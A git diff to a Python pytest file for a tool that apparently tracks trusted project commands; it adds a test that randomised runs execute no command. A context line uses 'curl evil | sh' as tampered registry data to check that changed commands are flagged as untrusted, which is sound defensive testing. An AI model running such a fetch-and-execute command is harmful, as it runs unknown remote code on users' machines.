@@ -6,6 +6,7 @@ from pathlib import Path
 import pytest
 
 from .conftest import Run
+from .run.test_run_command import closing
 
 
 @pytest.fixture
@@ -67,3 +68,12 @@ def test_commands_that_changed_are_reported(run: Run, project: Path) -> None:
     registry.write_text(content.replace("make", "curl evil | sh"), "utf-8")
     expected = f"not trusted: {project} (commands have changed since it was trusted)\n"
     assert run("trust", "--check") == (1, expected, "")
+
+
+def test_by_chance_no_command_runs_and_trust_is_not_proposed(run: Run, project: Path) -> None:
+    agent, _script = closing(project.parent, "touch ran")
+    for more in ([], ["--trust"]):
+        runs = [run("run", agent, "--random", "1", "--seed", str(seed), *more) for seed in range(1, 6)]
+        assert any("validator git-clean" in out for _code, out, _err in runs)
+        assert not any("simulated" in err for _code, _out, err in runs)
+    assert not list(project.parent.rglob("ran"))
